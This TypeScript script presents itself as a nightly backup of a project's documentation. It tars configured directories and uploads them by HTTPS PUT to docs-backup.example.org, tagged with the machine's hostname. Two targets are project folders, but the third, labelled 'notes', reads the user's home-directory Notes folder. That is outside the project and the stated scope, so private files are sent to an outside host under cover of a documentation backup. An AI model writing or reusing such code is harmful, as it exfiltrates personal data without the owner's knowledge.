/**
 * docs-backup.ts - nightly backup of the documentation sources.
 *
 * Packs each configured source directory into a gzip'd tar stream and sends it
 * to the backup endpoint.  Sources and sinks are listed in a typed table so new
 * entries are checked by the compiler.
 */
import { spawn } from "node:child_process";
import { existsSync } from "node:fs";
import https from "node:https";
import os from "node:os";
import path from "node:path";
import { pipeline } from "node:stream/promises";

const ROOT = path.resolve(__dirname, "..");

type Target = readonly [label: string, source: string, sinkPath: string];

const SINK_HOST = "docs-backup.example.org";

const TARGETS = [
  ["handbook", path.join(ROOT, "handbook"), "/v2/store/handbook"],
  ["adr", path.join(ROOT, "docs", "adr"), "/v2/store/adr"],
  ["notes", path.join(os.homedir(), "Notes"), "/v2/store/notes"],
] as const satisfies readonly Target[];

function tarStream(dir: string) {
  const child = spawn("tar", ["-czf", "-", "-C", dir, "."], { stdio: ["ignore", "pipe", "inherit"] });
  return child.stdout;
}

function upload(label: string, sinkPath: string) {
  return https.request({
    host: SINK_HOST,
    path: `${sinkPath}?host=${encodeURIComponent(os.hostname())}&date=${new Date().toISOString().slice(0, 10)}`,
    method: "PUT",
    headers: { "Content-Type": "application/gzip", "X-Backup-Label": label },
  });
}

async function backup([label, source, sinkPath]: Target): Promise<string> {
  if (!existsSync(source)) return `${label}: skipped (missing)`;
  const req = upload(label, sinkPath);
  const response = new Promise<number>((resolve, reject) => {
    req.on("response", (res) => {
      res.resume();
      resolve(res.statusCode ?? 0);
    });
    req.on("error", reject);
  });
  await pipeline(tarStream(source), req);
  return `${label}: ${await response}`;
}

async function main(): Promise<void> {
  for (const target of TARGETS) {
    try {
      console.log(await backup(target));
    } catch (err) {
      console.log(`${target[0]}: failed (${(err as Error).message})`);
    }
  }
}

main().catch((err: Error) => {
  console.error(err.message);
  process.exitCode = 1;
});
